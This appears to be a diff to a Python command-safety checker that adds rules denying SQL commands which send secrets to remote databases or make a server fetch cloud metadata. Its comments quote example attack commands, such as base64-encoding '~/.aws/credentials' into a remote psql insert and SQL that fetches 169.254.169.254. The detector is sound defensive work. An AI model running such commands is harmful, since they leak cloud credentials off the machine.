@@ -20,6 +20,7 @@ from .findings import Finding, allow, ask, attribute_effects, deny, with_rule, w
 from .datacode import code_in_data, loaders_in
 from .deletes import find_delete
 from .evaluate import MKTEMP_PREFIX
+from .exposure import module_program
 from .generated import run_process_input
 from .invocation import UNKNOWN_WORD, Invocation, Origin
 from .projectfiles import python_module_file, read_text, shown
@@ -27,7 +28,7 @@ from .pwsh import powershell_as_shell
 from .toolcode import PYTHON_PROGRAM
 from .pycode import Action, python_actions
 from .listeners import WHY as LISTEN_WHY, broker_ports, code_listens_on_broker_port
-from .secrets import is_secret, is_secret_area, reads_secret
+from .secrets import is_secret, is_secret_area, reads_secret, secret_in_text
 from ..secrets import secret_catalog
 from ..web import host_of, metadata_in_text, metadata_service
 from .selfcall import SCRIPT, is_launcher, judge_guardtui
@@ -354,6 +355,10 @@ def _module(run: "Run", inv: "Invocation", module: str, rest: list[Word]) -> lis
     if module in ("pip", "pip3", "ensurepip", "uv", "poetry", "pipx", "build"):  # python -m build: pyproject-build
         name = {"ensurepip": "pip", "build": "pyproject-build"}.get(module, module)
         return run.judge_invocation(Invocation(name, rest, inv.cmd, inv.scope, inv.privileged, module))
+    program = module_program(module)
+    if program:  # python -m jupyterlab --ip 0.0.0.0: the server's own program (data/servers.yaml modules)
+        words = [Word.literal(w) for w in program[1:]] + rest
+        return run.judge_invocation(Invocation(program[0], words, inv.cmd, inv.scope, inv.privileged, module))
     if module in ("http.server", "SimpleHTTPServer"):
         port = next((int(w.value) for w in rest if w.value.isdigit()), None)
         if port is not None and port in broker_ports():
@@ -1426,6 +1431,27 @@ def classify_sql(sql: str) -> tuple[str, str] | None:
     return None
 
 
+_DB_HOST_OPTIONS = ("-h", "--host", "--hostname", "-H", "--server")
+_LOCAL_DB = re.compile(r"^(?:localhost|127(?:\.\d+){0,3}|::1|\[::1\]|/.*|)$", re.I)
+
+
+def _secret_into_remote_database(run: "Run", inv: "Invocation") -> Finding | None:
+    """`psql postgres://…@db.partner.io -c "insert … '$(base64 ~/.aws/credentials)'"`: a secret a substitution
+    brings into the SQL, sent to a database on another machine."""
+    carrying = [w for w in inv.words if w.dynamic and ("$(" in w.raw or "`" in w.raw) and
+                secret_in_text(w.raw + " " + w.origin, inv.scope)]
+    if not carrying:
+        return None
+    hosts = [w.value for i, w in enumerate(inv.words) if i and inv.words[i - 1].value in _DB_HOST_OPTIONS]
+    hosts += [w.value.partition("=")[2] for w in inv.words if w.value.partition("=")[0] in _DB_HOST_OPTIONS[1:]]
+    hosts += [host_of(w.value) or "" for w in inv.words if re.match(r"(?i)^[a-z][a-z0-9+.-]*://", w.value)]
+    remote = [h for h in hosts if DYN not in h and not _LOCAL_DB.match(h.strip("[]"))]
+    if not remote:
+        return None
+    return deny(f"{inv.name} sends secrets ({carrying[0].raw[:60]}) into a database at {remote[0]}: a secret leaving "
+                "the machine", "secrets", "net.exfiltration")
+
+
 def judge_sql(run: "Run", inv: "Invocation") -> list[Finding]:
     spec = run.tax.sql_clients[inv.name]
     if spec.get("store_commands"):
@@ -1508,6 +1534,14 @@ def judge_sql(run: "Run", inv: "Invocation") -> list[Finding]:
     if inv.name in ("sqlite3", "duckdb"):  # the shell's own dot-commands: .output FILE, .shell CMD, …
         statements = [_dot_commands(run, inv, sql, findings, database_file) for sql in statements]
     statements = [_client_shell_escapes(run, inv, sql) for sql in statements]
+    for sql in statements:  # url('http://169.254.169.254/…'), COPY FROM PROGRAM 'curl …metadata…'
+        reached = metadata_in_text(sql)
+        if reached is not None:
+            return [deny(f"{inv.name} runs SQL that makes the server fetch {reached[0][:60]}: {reached[1]} hands out "
+                         "the machine's cloud credentials", "secrets", "net.metadata")]
+    carried = _secret_into_remote_database(run, inv)
+    if carried is not None:
+        return [carried]
     for sql in statements:
         if DYN in sql:
             findings.append(ask(f"{inv.name} runs SQL built at run time", "database", BlastRadius.HIGH, "sql.dynamic"))
